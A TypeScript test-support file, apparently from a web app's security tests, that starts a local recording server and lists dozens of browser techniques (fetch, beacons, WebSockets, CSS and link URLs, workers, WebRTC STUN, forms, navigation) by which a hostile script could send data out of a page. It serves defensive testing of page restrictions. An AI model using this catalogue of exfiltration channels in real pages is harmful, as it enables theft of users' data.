// Ways in which a hostile script could send data out of a page; docs/security.md lists the outcome of each.
import { createSocket } from "node:dgram";
import { createServer } from "node:http";

import { end, listen } from "./recorder";

/** Another origin's server, which records requests, bare connections and UDP datagrams. */
export async function listenElsewhere() {
  const received: string[] = [];
  const server = createServer((request, response) => {
    received.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/plain" }).end("");
  });
  server.on("upgrade", (request, socket) => { received.push(`upgrade ${request.url}`); socket.destroy(); });
  server.on("connection", () => received.push("connection"));
  const datagrams = createSocket("udp4");
  datagrams.on("message", () => received.push("datagram"));
  const url = await listen(server);
  await new Promise<void>((ready) => datagrams.bind(0, "127.0.0.1", ready));
  return {
    url,
    udp: datagrams.address().port,
    received,
    async stop() {
      datagrams.close();
      await end(server);
    },
  };
}

/** The targets, and the data to send. */
export interface Target {
  /** The address, to which a path or query can be appended. */
  address: string;
  udp: number;
}

/** Ways without navigation. Each is tried in the page, and its promise settles when the browser has decided. */
export const STAYING: Record<string, (target: Target) => unknown> = {
  fetch: ({ address }) => fetch(`${address}fetch`, { mode: "no-cors" }),
  "fetch keepalive": ({ address }) => fetch(`${address}keepalive`, { method: "POST", mode: "no-cors", keepalive: true, body: "a" }),
  XMLHttpRequest: ({ address }) => new Promise((settled) => {
    const request = new XMLHttpRequest();
    request.onloadend = settled;
    request.open("GET", `${address}xhr`);
    request.send();
  }),
  sendBeacon: ({ address }) => navigator.sendBeacon(`${address}beacon`, "a"),
  WebSocket: ({ address }) => new Promise((settled) => { new WebSocket(`${address.replace("http", "ws")}socket`).onerror = settled; }),
  EventSource: ({ address }) => new Promise((settled) => { new EventSource(`${address}events`).onerror = settled; }),
  WebTransport: ({ address }) => new (window as never as { WebTransport: new (url: string) => { ready: Promise<void> } }).WebTransport(`${address.replace("http", "https")}transport`).ready,
  image: ({ address }) => new Promise((settled) => {
    const image = new Image();
    image.onload = image.onerror = settled;
    image.src = `${address}image`;
  }),
  "image of the styles": ({ address }) => {
    const element = document.body.appendChild(document.createElement("div"));
    element.style.background = `url("${address}background")`;
    element.style.cursor = `url("${address}cursor"), auto`;
    element.style.filter = `url("${address}filter#a")`;
    element.getBoundingClientRect();
  },
  font: ({ address }) => new FontFace("a", `url("${address}font")`).load(),
  media: ({ address }) => new Promise((settled) => {
    const audio = new Audio();
    audio.onerror = settled;
    audio.src = `${address}audio`;
  }),
  ...Object.fromEntries(
    (["stylesheet", "icon", "manifest", "preload", "modulepreload", "prefetch", "prerender", "preconnect", "dns-prefetch"] as const).map((rel) => [
      `link ${rel}`,
      // Its source text is evaluated in the page, so it must be self-contained.
      new Function("{ address }", `
        return new Promise((settled) => {
          const link = document.createElement("link");
          link.rel = "${rel}";
          link.as = "${rel === "preload" ? "image" : ""}";
          link.onload = link.onerror = settled;
          link.href = address + "link-${rel}";
          document.head.append(link);
          setTimeout(settled, 300);
        });`) as (target: Target) => unknown,
    ]),
  ),
  script: ({ address }) => {
    const script = document.createElement("script");
    script.src = `${address}script`;
    document.head.append(script);
  },
  import: ({ address }) => import(`${address}import`),
  worker: ({ address }) => new Worker(`${address}worker`),
  "shared worker": ({ address }) => new SharedWorker(`${address}shared-worker`),
  "service worker": ({ address }) => navigator.serviceWorker.register(`${address}service-worker`),
  "speculation rules": ({ address }) => {
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    rules.text = JSON.stringify({ prefetch: [{ urls: [`${address}speculation`] }] });
    document.head.append(rules);
  },
  iframe: ({ address }) => {
    const frame = document.createElement("iframe");
    frame.src = `${address}iframe`;
    document.body.append(frame);
  },
  object: ({ address }) => {
    const object = document.createElement("object");
    object.data = `${address}object`;
    document.body.append(object);
  },
  "form to a new window": ({ address }) => {
    const form = document.body.appendChild(document.createElement("form"));
    form.action = `${address}form`;
    form.target = "_blank";
    form.submit();
  },
  ping: ({ address }) => {
    const link = document.body.appendChild(document.createElement("a"));
    link.href = "#ping";
    link.ping = `${address}ping`;
    link.click();
  },
  "window.open": ({ address }) => window.open(`${address}open`, "_blank", "noopener"),
  WebRTC: ({ udp }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
    connection.createDataChannel("a");
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  },
  "WebRTC of an empty frame": ({ udp }) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    const connection = new (frame.contentWindow as never as typeof globalThis).RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
    connection.createDataChannel("a");
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  },
  "window.open of an empty frame": ({ address }) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.contentWindow!.open(`${address}frame-open`, "_blank", "noopener");
  },
  "link to a new window": ({ address }) => {
    const link = document.getElementById("app")!.appendChild(document.createElement("a"));
    link.href = `${address}new-window`;
    link.target = "_blank";
    link.rel = "noopener";
    link.click();
  },
  "link to a new window, outside the document": ({ address }) => {
    const link = document.createElement("a");
    link.href = `${address}detached`;
    link.target = "_blank";
    link.rel = "noopener";
    link.click();
  },
};

/** Ways that navigate the page itself. */
export const LEAVING: Record<string, (target: Target) => unknown> = {
  "location =": ({ address }) => { location.href = `${address}location`; },
  "location.replace": ({ address }) => { location.replace(`${address}replace`); },
  "navigation.navigate": ({ address }) => { (window as never as { navigation: { navigate(to: string): void } }).navigation.navigate(`${address}navigate`); },
  link: ({ address }) => {
    const link = document.createElement("a");
    link.href = `${address}link`;
    link.click();
  },
  form: ({ address }) => {
    const form = document.body.appendChild(document.createElement("form"));
    form.action = `${address}form`;
    form.submit();
  },
  "meta refresh": ({ address }) => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = `0; url=${address}refresh`;
    document.head.append(meta);
  },
  "address of the page, then a reload": () => {
    history.replaceState(null, "", "?state=junior-review");
    location.reload();
  },
};
